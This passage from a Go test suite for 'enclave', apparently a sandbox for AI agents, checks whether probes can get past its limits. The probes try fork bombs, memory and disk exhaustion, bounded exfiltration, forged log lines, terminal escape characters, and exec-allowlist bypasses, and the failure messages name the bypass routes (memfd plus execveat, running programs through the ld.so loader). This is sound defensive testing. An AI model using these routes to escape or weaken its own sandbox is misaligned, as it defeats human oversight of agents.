	if out, err := exec.Command("grep", "-r", "-l", f.canaries["ssh-key"], shadow).Output(); err == nil && len(out) > 0 {
		t.Errorf("ESCAPE: the ssh key canary is in enclave's shadow repository: %s", out)
	}
}

func TestExecRecordComplete(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	tok := randHex(6)
	r := f.run(runOpts{}, "execrec", tok)
	ran, _ := filepath.Glob(filepath.Join(r.work, "ran-"+tok+"-*"))
	if len(ran) == 0 {
		t.Fatalf("not even the plain exec ran: the probe is broken")
	}
	var recorded []string
	for _, argv := range f.execArgv(r.id) {
		recorded = append(recorded, strings.Join(argv, " "))
	}
	all := strings.Join(recorded, "\n")
	for _, p := range ran {
		name := filepath.Base(p)
		if !strings.Contains(all, name) {
			t.Errorf("UNRECORDED EXEC: a program ran (it created %s) but no exec record names it", name)
		}
	}
	t.Logf("%d of 5 exec routes ran, each recorded", len(ran))
}

// ---- resource exhaustion: bounded, and nothing left behind ----

// limitsPolicy is a policy file with small limits for the exhaustion probes.
const limitsPolicy = `version: 1
profile: default
profiles:
  default:
    limits:
      memory: 256MiB
      processes: 64
      wall_time: %s
      file_size: 8MiB
      tmp_size: 16MiB
`

// watchHost measures, while fn runs, how long the host takes to start a
// process; it returns the worst time seen.
func watchHost(t *testing.T, fn func()) time.Duration {
	t.Helper()
	stop := make(chan struct{})
	worst := make(chan time.Duration, 1)
	go func() {
		var w time.Duration
		for {
			select {
			case <-stop:
				worst <- w
				return
			case <-time.After(200 * time.Millisecond):
			}
			start := time.Now()
			exec.Command("/bin/true").Run()
			w = max(w, time.Since(start))
		}
	}()
	fn()
	close(stop)
	return <-worst
}

func requireNoLeftovers(t *testing.T, token string) {
	t.Helper()
	// The sandbox must be gone when enclave returns; allow the kernel a
	// moment to reap.
	var left []string
	for range 20 {
		if left = leftovers(token); len(left) == 0 {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Errorf("ESCAPE: %d sandbox processes outlived the session:\n  %s", len(left), strings.Join(left[:min(len(left), 5)], "\n  "))
	for _, l := range left {
		if pid, err := strconv.Atoi(strings.SplitN(l, ":", 2)[0]); err == nil {
			unix.Kill(pid, unix.SIGKILL)
		}
	}
}

func TestForkBomb(t *testing.T) {
	if testing.Short() {
		t.Skip("slow: -short skips resource exhaustion")
	}
	f := newFixture(t)
	tok := "bomb" + randHex(6)
	var r *result
	worst := watchHost(t, func() {
		r = f.run(runOpts{policy: fmt.Sprintf(limitsPolicy, "15s"), timeout: 60 * time.Second}, "forkbomb", tok)
	})
	t.Logf("fork bomb: session ended after %s (exit %d); slowest host process start meanwhile %s", r.took, r.code, worst)
	if r.took > 40*time.Second {
		t.Errorf("the session outlived its 15s wall time by far: %s", r.took)
	}
	if worst > 3*time.Second {
		t.Errorf("the host was unresponsive during the fork bomb: starting /bin/true took %s", worst)
	}
	requireNoLeftovers(t, tok)
}

func TestMemoryHog(t *testing.T) {
	if testing.Short() {
		t.Skip("slow: -short skips resource exhaustion")
	}
	f := newFixture(t)
	var r *result
	worst := watchHost(t, func() {
		r = f.run(runOpts{policy: fmt.Sprintf(limitsPolicy, "30s"), timeout: 90 * time.Second}, "memhog")
	})
	t.Logf("memory hog: session ended after %s (exit %d); slowest host process start meanwhile %s", r.took, r.code, worst)
	if r.code == 0 {
		t.Errorf("the memory hog exited 0: it was never stopped")
	}
	if r.took > 25*time.Second {
		t.Errorf("the memory limit did not stop the hog; the wall time did (%s)", r.took)
	}
	if worst > 3*time.Second {
		t.Errorf("the host was unresponsive during the memory hog: starting /bin/true took %s", worst)
	}
	requireNoLeftovers(t, "memhog")
}

func TestDiskFillTmpAndHome(t *testing.T) {
	if testing.Short() {
		t.Skip("slow: -short skips resource exhaustion")
	}
	f := newFixture(t)
	tok := "fill" + randHex(6)
	// While the probe holds its tmpfs full, measure it from the host
	// through the sandbox process's root.
	var (
		mu     sync.Mutex
		sizes  []string
		tooBig []string
		done   = make(chan struct{})
	)
	r := f.run(runOpts{policy: fmt.Sprintf(limitsPolicy, "30s"), started: func(*exec.Cmd) {
		go func() {
			defer close(done)
			for range 50 {
				time.Sleep(100 * time.Millisecond)
				for _, l := range leftovers(tok) {
					pid := strings.SplitN(l, ":", 2)[0]
					for _, d := range []string{"tmp", "home/agent"} {
						var st unix.Statfs_t
						if unix.Statfs("/proc/"+pid+"/root/"+d, &st) == nil && st.Type == unix.TMPFS_MAGIC {
							used := int64(st.Blocks-st.Bfree) * st.Bsize
							mu.Lock()
							sizes = append(sizes, fmt.Sprintf("/%s %d MiB", d, used>>20))
							if used > 17<<20 {
								tooBig = append(tooBig, d)
							}
							mu.Unlock()
						}
					}
				}
			}
		}()
	}}, "fill", "/tmp", "/home/agent", tok)
	<-done
	t.Logf("disk fill: session ended after %s; host measured the sandbox's tmpfs %d times, last: %v", r.took, len(sizes), sizes[max(0, len(sizes)-2):])
	if len(sizes) == 0 {
		t.Fatalf("the host could not measure the sandbox's tmpfs through /proc/PID/root: the check is blind")
	}
	if len(tooBig) > 0 {
		t.Errorf("the sandbox's tmpfs grew past tmp_size 16MiB: %v", tooBig)
	}
	requireNoLeftovers(t, tok)
}

func TestFileSizeLimit(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	r := f.run(runOpts{policy: fmt.Sprintf(limitsPolicy, "30s")}, "bigfile", "/workspace/big", "64")
	fi, err := os.Lstat(filepath.Join(r.work, "big"))
	if err != nil {
		t.Fatalf("the probe wrote no file at all: %v", err)
	}
	if fi.Size() > 8<<20 {
		t.Errorf("a workspace file grew to %d bytes past file_size 8MiB", fi.Size())
	}
}

func TestWallTime(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	tok := "600"
	r := f.run(runOpts{policy: fmt.Sprintf(limitsPolicy, "3s"), timeout: 60 * time.Second}, "sleep", tok)
	if r.took > 20*time.Second {
		t.Errorf("a 3s wall time let the session run %s", r.took)
	}
	if r.code == 0 {
		t.Errorf("the session killed at its wall time exited 0")
	}
	requireNoLeftovers(t, "__probe\x00sleep\x00"+tok)
}

func TestWorkspaceDiskLimit(t *testing.T) {
	if testing.Short() {
		t.Skip("slow: -short skips resource exhaustion")
	}
	f := newFixture(t)
	// The probe stops at 128 MiB on its own, so a missing limit cannot
	// fill the host disk.
	pol := strings.Replace(fmt.Sprintf(limitsPolicy, "30s"), "      tmp_size: 16MiB\n", "      tmp_size: 16MiB\n      disk: 16MiB\n", 1)
	r := f.run(runOpts{policy: pol}, "fill", "/workspace", "max=128")
	var total int64
	filepath.WalkDir(r.work, func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if fi, err := d.Info(); err == nil {
				total += fi.Size()
			}
		}
		return nil
	})
	t.Logf("the workspace copy holds %d MiB after the fill", total>>20)
	// inotify stops the writer within milliseconds; on a loaded machine
	// enclave may wait for a CPU while the writer runs, so allow 24 MiB
	// past the limit (a 250 ms walk alone let it reach the probe's cap).
	if total > 40<<20 {
		t.Errorf("limits.disk 16MiB: the agent grew the workspace copy on the host disk to %d MiB before the session was stopped", total>>20)
	}
}

// TestWorkspaceDiskLimitDeletedFiles: files deleted while open still take
// disk. The probe writes 128 MiB into such files under a 16 MiB limit and
// then waits; judged by the session's end and its record, not the probe.
func TestWorkspaceDiskLimitDeletedFiles(t *testing.T) {
	if testing.Short() {
		t.Skip("slow: -short skips resource exhaustion")
	}
	f := newFixture(t)
	pol := strings.Replace(fmt.Sprintf(limitsPolicy, "30s"), "      tmp_size: 16MiB\n", "      tmp_size: 16MiB\n      disk: 16MiB\n", 1)
	r := f.run(runOpts{policy: pol, timeout: 60 * time.Second}, "fill-deleted", "/workspace/gone", "128")
	if r.code == 0 {
		t.Errorf("the session holding 128 MiB of deleted files under disk: 16MiB exited 0 after %s", r.took)
	}
	if r.took > 8*time.Second {
		t.Errorf("the session ran %s: it was not stopped before the probe finished writing and waited", r.took)
	}
	killed := false
	for _, e := range f.events(r.id) {
		if e.Kind == "limit" && e.Decision == "deny" && strings.Contains(string(e.Data), `"disk"`) {
			killed = true
			t.Logf("limit event: %s", e.Data)
			var d struct{ Grown int64 }
			json.Unmarshal(e.Data, &d)
			// Held deleted files are counted every 10 ms once a file
			// of the copy is deleted; the probe writes at disk speed,
			// and a loaded machine delays the count (about 20 MiB
			// measured; stopped before the probe's 128 is what counts).
			if d.Grown > 100<<20 {
				t.Errorf("the session was stopped only after %d MiB of deleted files, limit 16", d.Grown>>20)
			}
		}
	}
	if !killed {
		t.Error("no limit event for the disk in the session's log")
	}
}

func TestExecAllowlist(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	pol := `version: 1
profile: default
profiles:
  default:
    exec:
      allow: [/usr/bin, /probe/probe]
`
	tok := randHex(6)
	r := f.run(runOpts{policy: pol}, "execallow", tok)
	ran, _ := filepath.Glob(filepath.Join(r.work, "ran-"+tok+"-*"))
	allowed := false
	var bypass []string
	for _, p := range ran {
		route := strings.TrimPrefix(filepath.Base(p), "ran-"+tok+"-")
		if route == "allowed" {
			allowed = true
			continue
		}
		bypass = append(bypass, route)
	}
	if !allowed {
		t.Fatalf("even /usr/bin/touch, which the policy allows, did not run: the probe is broken or the policy refuses too much")
	}
	var ldso, memfd, other []string
	for _, b := range bypass {
		switch {
		case strings.HasPrefix(b, "ldso-"):
			ldso = append(ldso, b)
		case b == "memfd":
			memfd = append(memfd, b)
		default:
			other = append(other, b)
		}
	}
	if len(other) > 0 {
		t.Errorf("ESCAPE: programs outside exec.allow ran: %v", other)
	}
	if len(memfd) > 0 {
		t.Errorf("ESCAPE: a program copied into a memfd runs with execveat(memfd, \"\", AT_EMPTY_PATH) (Landlock does not check files of internal filesystems); the sandbox's seccomp filter must refuse memfd_create and execveat with AT_EMPTY_PATH when exec.allow is set")
	}
	if len(ldso) > 0 {
		t.Errorf("ESCAPE: \"/lib64/ld-linux-x86-64.so.2 PROGRAM\" runs a program the agent wrote (routes %v): the loader maps it with mmap(PROT_EXEC), which Landlock does not check; the writable places (workspace, /tmp, HOME, /dev/shm) must be mounted noexec when exec.allow is set", ldso)
	}
}

func TestByteBudgetBoundsExfiltration(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	c, port := listenHTTP(t, "allowed upload server")
	pol := fmt.Sprintf(`version: 1
profile: default
profiles:
  default:
    network:
      allow:
        - host: 127.0.0.1
          ports: [%d]
      byte_budget: 2MiB
`, port)
	r := f.run(runOpts{policy: pol}, "upload", fmt.Sprintf("http://127.0.0.1:%d/upload", port), "8")
	got := c.bytes.Load()
	t.Logf("the host server received %d bytes of request bodies in %d connections", got, c.n.Load())
	if c.n.Load() == 0 {
		t.Fatalf("no upload reached the allowed host: the probe is broken")
	}
	if got > 3<<20 {
		t.Errorf("EXFILTRATION: byte_budget 2MiB, but the allowed host received %d bytes", got)
	}
	denied := 0
	for _, e := range f.events(r.id) {
		if e.Kind == "egress" && e.Decision == "deny" {
			denied++
		}
	}
	if denied == 0 && got < 8<<20 {
		t.Logf("note: the budget cut flows without a deny record")
	}
}

func TestForgedRecordAndTerminalEscapes(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	r := f.run(runOpts{}, "inject")
	var found []string
	for _, args := range [][]string{{"log", r.id}, {"diff", r.id}, {"diff", "--stat", r.id}, {"sessions"}} {
		out, err := f.cli(args...)
		if err != nil {
			t.Errorf("enclave %v: %v", args, err)
			continue
		}
		cmd := "enclave " + strings.Join(args[:len(args)-1], " ")
		if i := strings.IndexAny(out, "\x1b\x07\r\u202e"); i >= 0 {
			found = append(found, fmt.Sprintf("%s prints a raw control or bidi character the agent chose: %q", cmd, out[max(0, i-30):min(len(out), i+30)]))
		}
		for _, l := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimSpace(l), "enclave: session FORGED") {
				found = append(found, fmt.Sprintf("%s prints a line the agent forged (a newline in a file name): %q", cmd, l))
			}
		}
	}
	if len(found) > 0 {
		t.Errorf("agent-controlled strings reach the terminal unescaped (internal/cli):\n  %s", strings.Join(found, "\n  "))
	}
}
